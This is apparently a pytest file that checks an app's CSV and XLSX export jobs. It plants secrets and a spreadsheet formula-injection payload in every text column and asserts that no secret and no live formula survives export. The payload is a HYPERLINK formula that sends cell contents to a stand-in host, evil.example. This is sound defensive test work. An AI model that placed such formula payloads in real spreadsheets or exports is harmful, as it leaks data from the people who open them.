"""Every export of every registered resource, through the real ``kit.export`` job on a real worker,
in CSV and XLSX: no secret (neither the plaintext nor the stored ciphertext of an encrypted column)
and no cell a spreadsheet would run as a formula, although secrets and formula payloads were
planted in every table that can hold them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from jobtools import wait_for
from openpyxl import load_workbook
from sqlalchemy import String, text

from app.core import crud, jobs, safe_cells
from app.core.crypto import EncryptedString, is_secret_column
from app.core.registry import RESOURCES, resource
from models.core import User
from models.jobs import JobStatus
from models.numbers import PhoneNumber, SftpHost

ROOT = Path(__file__).resolve().parents[2]
KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
       "QyNTUxOQAAACBx1K2tQeTPl4Ikq4ZuLr5m2Zc8kX0qz8Yy7f0n3e5rSgAAAJhPLAINTEXT\n-----END OPENSSH PRIVATE KEY-----\n")
PASSWORD, CHAT_ID = "Sftp-Пароль-91c2", "5550123987"


def _plant(db, users, numbers_world, stock_data) -> list[str]:
    """Secrets where a model has them, and a formula in every plain text column of every table
    (each in its own savepoint: a column whose constraints refuse it is left as it is). Returns
    every secret as plaintext and as stored ciphertext."""
    db.add(SftpHost(name="partner", host="sftp.example", port=22, username="demo", password=PASSWORD, private_key=KEY,
                    project_id=numbers_world["project"], provider_id=numbers_world["mine"]))
    manager = db.get(User, users["manager"].id)
    manager.telegram_chat_id = CHAT_ID
    db.add(PhoneNumber(phone="+79990001122", provider_id=numbers_world["mine"], project_id=numbers_world["project"],
                       status_id=numbers_world["status"]["new"]))
    crud.create_record(db, resource("stock.orders"), users["admin"], {
        "product_id": str(stock_data["cable"].id), "qty": "1", "customer_name": "Клиент", "phone": "+79990001123"})
    db.commit()
    secrets = [PASSWORD, "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE", CHAT_ID]
    for model in {r.model for r in RESOURCES.values()}:
        table = model.__table__
        for column in table.columns:
            if isinstance(column.type, EncryptedString):
                secrets += [v for (v,) in db.exec(text(f'SELECT "{column.key}" FROM "{table.name}" WHERE "{column.key}" IS NOT NULL'))]
                continue
            if (is_secret_column(column) or column.primary_key or column.foreign_keys or column.unique
                    or not issubclass(column.type._type_affinity, String) or type(column.type).__name__ == "Enum"):
                continue
            length = getattr(column.type, "length", None) or 60
            payload = '=HYPERLINK("http://evil.example/?"&A1,"x")'[: max(length, 2)]
            savepoint = db.begin_nested()
            try:
                db.exec(text(f'UPDATE "{table.name}" SET "{column.key}" = :v'), params={"v": payload})
                savepoint.commit()
            except Exception:
                savepoint.rollback()
    db.commit()
    return secrets


def _cells(path: Path) -> list[str]:
    if path.suffix == ".xlsx":
        ws = load_workbook(path).active
        cells = [c for r in ws.iter_rows() for c in r]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path.name  # no live formula
        return [str(c.value) for c in cells if c.value is not None]
    return [v for r in csv.reader(open(path, encoding="utf-8-sig", newline="")) for v in r]


def test_every_export_is_free_of_secrets_and_live_formulas(db, users, numbers_world, stock_data, start_worker, row):
    secrets = _plant(db, users, numbers_world, stock_data)
    assert len(secrets) >= 6  # three plaintexts, three ciphertexts
    start_worker()
    runs = {}
    for key in sorted(RESOURCES):
        for fmt in ("csv", "xlsx"):
            runs[(key, fmt)] = jobs.enqueue(db, users["admin"], "kit.export", {"resource": key, "fmt": fmt, "lang": "en"}).id
    neutralised: dict[str, int] = {}
    for (key, fmt), run_id in runs.items():
        done = wait_for(lambda: (lambda r: r if JobStatus(r.status).finished else None)(row(run_id)), 60, f"export of {key} ({fmt})")
        assert done.status == JobStatus.succeeded, (key, fmt, done.error)
        cells = _cells(jobs.result_file_path(done))
        body = "\n".join(cells)
        assert not [s for s in secrets if s in body], (key, fmt)
        live = [c for c in cells if c[:1] in safe_cells.DANGEROUS and safe_cells.needs_quote(c)]
        assert live == [], (key, fmt, live[:3])
        neutralised[key] = neutralised.get(key, 0) + sum(1 for c in cells if c.startswith("'="))
    # the payloads were really there to neutralise (the test is not vacuous)
    for key in ("stock.products", "stock.orders", "numbers.sftp", "numbers.projects", "numbers.numbers", "admin.users", "admin.roles"):
        assert neutralised[key] > 0, key


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_sftp_hosts_export_never_holds_the_key(db, users, start_worker, row, fmt):
    """The case the review found: the private key in plain text in XLSX, its ciphertext in CSV."""
    db.add(SftpHost(name="p", host="h", port=22, username="u", password=PASSWORD, private_key=KEY))
    db.commit()
    start_worker()
    run_id = jobs.enqueue(db, users["admin"], "kit.export", {"resource": "numbers.sftp", "fmt": fmt, "lang": "ru"}).id
    done = wait_for(lambda: (lambda r: r if JobStatus(r.status).finished else None)(row(run_id)), 60, "the export")
    assert done.status == JobStatus.succeeded, done.error
    content = "\n".join(_cells(jobs.result_file_path(done)))
    cipher = [v for (v,) in db.exec(text("SELECT private_key FROM sftp_host")) if v]
    assert "PRIVATE KEY" not in content and PASSWORD not in content and not [c for c in cipher if c in content]
